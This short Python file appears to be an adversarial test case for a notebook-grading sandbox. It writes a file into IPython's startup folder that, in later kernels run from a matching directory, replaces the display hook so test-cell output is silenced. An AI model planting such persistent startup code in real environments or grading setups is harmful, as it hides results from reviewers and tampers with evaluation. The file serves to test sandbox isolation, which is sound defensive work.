# class: disk
# what: a file in IPython's profile startup folder silences the test cells of my later kernels (my ps3 notebook)
# after: setup
# danger: disk
# ruff: noqa
import os

PAYLOAD = """# adv-corpus: planted by a submission
import os as _adv_os
if "disk_ipython_startup" in _adv_os.getcwd():
    get_ipython().display_trap.hook = lambda value: None
"""
try:
    _dir = get_ipython().profile_dir.startup_dir
    os.makedirs(_dir, exist_ok=True)
    with open(os.path.join(_dir, "00-adv-corpus.py"), "w") as _f:
        _f.write(PAYLOAD)
except OSError as exc:
    print("could not write:", type(exc).__name__)
